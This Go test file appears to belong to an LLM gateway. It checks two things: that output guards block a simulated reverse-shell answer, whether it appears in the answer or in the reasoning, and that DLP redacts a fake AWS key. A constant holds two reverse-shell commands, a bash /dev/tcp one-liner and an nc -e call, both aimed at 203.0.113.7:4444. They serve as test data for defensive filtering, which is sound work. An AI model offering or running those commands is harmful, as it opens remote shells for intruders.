package e2e_test

import (
	"context"
	"errors"
	"strings"
	"testing"

	"github.com/openai/openai-go/v3"
	"github.com/openai/openai-go/v3/option"
	"github.com/rampart-gw/rampart/internal/sim"
)

const reverseShell = "Run this: bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 and then nc -e /bin/sh 203.0.113.7 4444 to keep access."

func answerWith(answer, reasoning string) option.RequestOption {
	return option.WithJSONSet("x_sim", map[string]any{"answer": answer, "reasoning": reasoning})
}

// TestOutputGuardStopsMalware: a malware answer from the simulator is
// stopped, in the answer and in the reasoning, streaming and not, whatever
// the route's reasoning policy: under strip the client would not see the
// reasoning, but the guards still read it.
func TestOutputGuardStopsMalware(t *testing.T) {
	t.Parallel()
	e := start(t, []upstreamSpec{{Name: "sim", Sim: &sim.Options{}}},
		[]routeSpec{
			{Name: "r", Models: "deepseek-reasoner", Upstreams: "sim"},
			{Name: "strip", Models: "reasoner-strip", Upstreams: "sim", Reasoning: "strip",
				Extra: "    aliases: {reasoner-strip: deepseek-reasoner}\n"},
			{Name: "separate", Models: "reasoner-separate", Upstreams: "sim", Reasoning: "separate",
				Extra: "    aliases: {reasoner-separate: deepseek-reasoner}\n"},
		}, "guards: {enabled: true}\n")
	ctx := context.Background()
	params := openai.ChatCompletionNewParams{
		Model:    "deepseek-reasoner",
		Messages: []openai.ChatCompletionMessageParamUnion{openai.UserMessage("How do I check my server's open ports?")},
	}
	type tcase struct{ desc, model, answer, reasoning string }
	cases := []tcase{
		{"in the answer", "deepseek-reasoner", reverseShell, "The user wants a command."},
		{"in the reasoning", "deepseek-reasoner", "Use ss -tlnp.", "I could suggest " + reverseShell},
	}
	for _, m := range []string{"reasoner-strip", "reasoner-separate"} {
		p := params
		p.Model = m
		// The stripped route really strips: an ordinary answer's reasoning
		// does not reach the client, so the guard's stop below is not
		// explained by the reasoning being shown.
		resp, err := e.client.Chat.Completions.New(ctx, p, answerWith("Use ss -tlnp.", "The user wants a command."))
		if err != nil {
			t.Fatalf("%s, ordinary answer: %v", m, err)
		}
		raw := resp.Choices[0].Message.JSON.ExtraFields["reasoning_content"].Raw()
		if shown := strings.Contains(raw, "The user wants"); shown != (m == "reasoner-separate") {
			t.Fatalf("%s: reasoning shown = %v (%s)", m, shown, raw)
		}
		cases = append(cases, tcase{"in the reasoning", m, "Use ss -tlnp.", "I could suggest " + reverseShell})
	}
	for _, c := range cases {
		params := params
		params.Model = c.model
		c.desc += ", " + c.model
		_, err := e.client.Chat.Completions.New(ctx, params, answerWith(c.answer, c.reasoning))
		var apiErr *openai.Error
		if !errors.As(err, &apiErr) || apiErr.Code != "content_blocked" {
			t.Errorf("%s, whole answer: %v", c.desc, err)
		}
		s := e.client.Chat.Completions.NewStreaming(ctx, params, answerWith(c.answer, c.reasoning))
		var got strings.Builder
		for s.Next() {
			for _, ch := range s.Current().Choices {
				got.WriteString(ch.Delta.Content)
			}
		}
		if s.Err() == nil || !strings.Contains(s.Err().Error(), "content_blocked") && !strings.Contains(s.Err().Error(), "output policy") {
			t.Errorf("%s, stream: want a terminal error, got %v", c.desc, s.Err())
		}
		if strings.Contains(got.String(), "/dev/tcp/203.0.113.7/4444 0>&1 and then nc") {
			t.Errorf("%s, stream: the whole payload reached the client: %q", c.desc, got.String())
		}
	}
	// An ordinary answer streams through.
	s := e.client.Chat.Completions.NewStreaming(ctx, params, answerWith("Use ss -tlnp to list listening ports.", "Simple."))
	for s.Next() {
	}
	if s.Err() != nil {
		t.Fatalf("an ordinary answer was stopped: %v", s.Err())
	}
}

// TestResponseDLP: a secret in the model's answer or reasoning is redacted
// before the client sees it, also when it is split across events, and the
// inline layout of an Ollama route is kept.
func TestResponseDLP(t *testing.T) {
	t.Parallel()
	const key = "AKIAZ7VQX2M4TB3WJQ5N"
	e := start(t, []upstreamSpec{
		{Name: "ds", Sim: &sim.Options{}},
		{Name: "ol", Flavor: "ollama", Sim: &sim.Options{Flavor: "ollama"}},
	}, []routeSpec{
		{Name: "ds", Models: "deepseek-reasoner", Upstreams: "ds"},
		{Name: "ol", Models: "ollama-r1", Upstreams: "ol", Extra: "    aliases: {ollama-r1: deepseek-reasoner}\n"},
	}, "dlp: {enabled: true}\n")
	ctx := context.Background()
	for _, model := range []string{"deepseek-reasoner", "ollama-r1"} {
		for _, stream := range []bool{false, true} {
			params := openai.ChatCompletionNewParams{
				Model:    model,
				Messages: []openai.ChatCompletionMessageParamUnion{openai.UserMessage("What is the deploy key?")},
			}
			opt := answerWith("The key is "+key+" as configured.", "It is "+key+" in the vault.")
			var content, reasoning string
			if stream {
				s := e.client.Chat.Completions.NewStreaming(ctx, params, opt)
				var c, r strings.Builder
				for s.Next() {
					for _, ch := range s.Current().Choices {
						c.WriteString(ch.Delta.Content)
						r.WriteString(extraString(ch.Delta.JSON.ExtraFields["reasoning_content"].Raw()))
					}
				}
				if s.Err() != nil {
					t.Fatalf("%s stream: %v", model, s.Err())
				}
				content, reasoning = c.String(), r.String()
			} else {
				resp, err := e.client.Chat.Completions.New(ctx, params, opt)
				if err != nil {
					t.Fatalf("%s: %v", model, err)
				}
				content = resp.Choices[0].Message.Content
				reasoning = extraString(resp.Choices[0].Message.JSON.ExtraFields["reasoning_content"].Raw())
			}
			all := content + reasoning
			if strings.Contains(all, key) || strings.Count(all, "as configured.") != 1 {
				t.Errorf("%s stream=%v: content %q reasoning %q", model, stream, content, reasoning)
			}
			if model == "ollama-r1" && (!strings.HasPrefix(content, "<think>") || !strings.Contains(content, "</think>")) {
				t.Errorf("%s stream=%v: the inline layout was lost: %q", model, stream, content)
			}
		}
	}
}
